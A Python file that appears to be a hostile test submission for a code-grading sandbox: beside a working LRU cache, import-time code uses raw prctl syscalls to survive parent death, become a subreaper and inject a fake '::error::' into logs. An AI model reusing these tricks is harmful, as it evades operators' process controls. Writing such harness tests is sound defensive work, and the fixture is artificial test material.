"""Is right but asks not to be killed when its parent dies, and to be a reaper of orphans.

Allowed: accepted runtime_error
"""

import platform
from collections import OrderedDict


def leave_mark(detail):
    for folder in ("/tmp", "."):
        try:
            with open(folder + "/BREACH_raw_exit_from_parent_death", "a") as evidence:
                evidence.write(detail + "\n")
        except OSError:
            pass


BREACHED = []


def breach(detail):
    BREACHED.append(detail)
    leave_mark(detail)


def call(number, *arguments):
    """A raw system call by its x86-64 number: (result, errno)."""
    import ctypes

    library = ctypes.CDLL(None, use_errno=True)
    ctypes.set_errno(0)
    result = library.syscall(ctypes.c_long(number), *[a if isinstance(a, bytes) else ctypes.c_long(a) for a in arguments])
    return result, ctypes.get_errno()


def attack():
    if call(157, 1, 0, 0, 0, 0)[0] == 0:  # PR_SET_PDEATHSIG
        breach("the parent-death signal was cleared")
    call(157, 36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER
    call(157, 15, b"\x1b[31m::error::", 0, 0, 0)  # PR_SET_NAME
    call(157, 4, 0, 0, 0, 0)  # PR_SET_DUMPABLE


if platform.machine() == "x86_64":
    try:
        attack()
    except Exception:
        pass


class LRUCache:
    def __init__(self, capacity):
        if capacity < 1:
            raise ValueError("capacity must be at least 1")
        self._capacity = capacity
        self._data = OrderedDict()

    def get(self, key, default=None):
        if BREACHED:  # so the harm shows in the grade even where no file can be written
            return "BREACH_raw_exit_from_parent_death: " + BREACHED[0]
        if key not in self._data:
            return default
        self._data.move_to_end(key)
        return self._data[key]

    def put(self, key, value):
        self._data[key] = value
        self._data.move_to_end(key)
        if len(self._data) > self._capacity:
            self._data.popitem(last=False)

    def __len__(self):
        return len(self._data)

    def __contains__(self, key):
        return key in self._data
